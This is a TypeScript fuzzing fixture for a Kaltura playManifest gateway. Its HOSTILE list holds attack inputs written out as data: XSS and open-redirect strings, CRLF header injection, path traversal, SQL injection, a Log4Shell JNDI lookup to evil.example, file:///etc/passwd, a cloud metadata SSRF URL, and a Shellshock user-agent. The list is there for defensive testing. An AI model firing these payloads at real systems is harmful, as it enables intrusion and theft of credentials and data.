import { readFileSync } from 'node:fs'
import { PARAMETERS, type ParameterSpec } from '../../../src/playmanifest/parameters.js'
import { USER_AGENTS } from '../../helpers/gateway.js'

const fixtures = new URL('../../fixtures/', import.meta.url)

function targetsOf(file: string, read: (row: never) => unknown): string[] {
  const rows = JSON.parse(readFileSync(new URL(file, fixtures), 'utf8')) as never[]
  return rows.map(read).filter((target): target is string => typeof target === 'string' && target.length < 6_000)
}

type WithRequest = { request: { target: string } }

/** Request targets that were sent to a real Kaltura, those of the vectors, and some that only the gateway understands. */
export const TARGETS: readonly string[] = [
  ...targetsOf('kaltura/playmanifest.json', (row: WithRequest) => row.request.target),
  ...targetsOf('recordings/flv.json', (row: { target: string }) => row.target),
  ...targetsOf('vectors/request-parsing.json', (row: { input: { url?: string } }) => row.input.url),
  '/p/101/sp/10100/playManifest/entryId/0_pool001/format/auto/device/ipad',
  '/p/101/sp/10100/playManifest/entryId/0_pool002/format/auto/protocol/https/a.m3u8',
  '/p/101/playManifest?entryId=0_pool003&format=url&device=android-2',
  '/api_v3/index.php?service=baseEntry&action=get&entryId=0_pool001&partnerId=101&format=1',
  '/api_v3/service/multirequest?1:service=session&1:action=startWidgetSession&1:widgetId=_101&partnerId=101&format=1',
  '/livez',
  '/readyz',
  '/'
].map((target) => target.replace(/^https?:\/\/[^/]+/, ''))

/** Every name that means something, long and short, and some that mean something to JavaScript or PHP. */
export const NAMES: readonly string[] = [
  ...Object.entries(PARAMETERS as Record<string, ParameterSpec>).flatMap(([name, { short }]) =>
    short === undefined ? [name] : [name, short]
  ),
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'extwidget', 'index.php', 'ks[]', 'entryId[a][b]', '0'],
  ...['gatewayProbe', 'x', 'Location', 'a b', 'entryid', 'ENTRYID', 'format.', 'service', 'action', 'signature', 'sig']
]

/** What no value should be. `evil.example` may come back inside a URL of Kaltura's, never as its host. */
export const HOSTILE: readonly string[] = [
  'https://evil.example/',
  'http://evil.example',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  'evil.example@evil.example',
  '@evil.example/',
  ':443@evil.example',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '%0d%0aSet-Cookie:%20a=b',
  '%0aLocation:%20https://evil.example/',
  '\r\nSet-Cookie: a=b',
  '%E5%98%8A%E5%98%8DSet-Cookie:a=b',
  '%00',
  '%c0%af',
  '%c0%ae%c0%ae',
  '%ff%fe',
  '%u002f',
  '%2e%2e',
  '%252e%252e%252f',
  '..%2f..%2f',
  '..;',
  '.',
  '..',
  '%5c',
  '%23',
  '%3f',
  '%26ks=x',
  '%',
  '%zz',
  '\u0000',
  'ä',
  '\u00e2\u0080\u00ae',
  '\u00ff',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '0x10',
  '99999999999999999999',
  '-9007199254740993',
  '[]',
  '{}',
  '[object Object]',
  "' OR 1=1 --",
  '$\u007bjndi:ldap://evil.example/a}',
  '{{7*7}}',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  'http://[::1]/',
  'rtmp',
  'ftp',
  'http:',
  'https:',
  'index.php',
  '',
  ',',
  ',,,,',
  '0_a,0_b',
  ' ',
  '+',
  '%20',
  '%09',
  '*',
  '(((((((((('
]

/** What a value should be, so that a mutated URL may be a valid one. */
export const SENSIBLE: readonly string[] = [
  ...['url', 'applehttp', 'mpegdash', 'hds', 'auto', 'download', 'hdnetwork', 'rtsp', 'sl', 'applehttp_to_mc'],
  ...['http', 'https', 'rtmp', '900', '0_pool001', '0_pool002_f1', 'mobile,web', 'iphonenew', 'mbr', '2', 'ipad', 'tv'],
  ...['jsonp', 'json', 'redirect', 'm3u8', 'eng', 'aHR0cDovL2EuZXhhbXBsZS8', '4000000000', '1', 'a.m3u8', 'a.mpd']
]

export const AGENTS: readonly string[] = [
  ...Object.values(USER_AGENTS),
  '',
  '-',
  'x'.repeat(4_000),
  'Mozilla/5.0 (iPad; '.repeat(60),
  '((((((((((((((((((((((((((((((',
  'Android '.repeat(200),
  '\u00e4\u00f6\u00fc\u00ff h0stile',
  '() { :; }; echo h0stile'
]
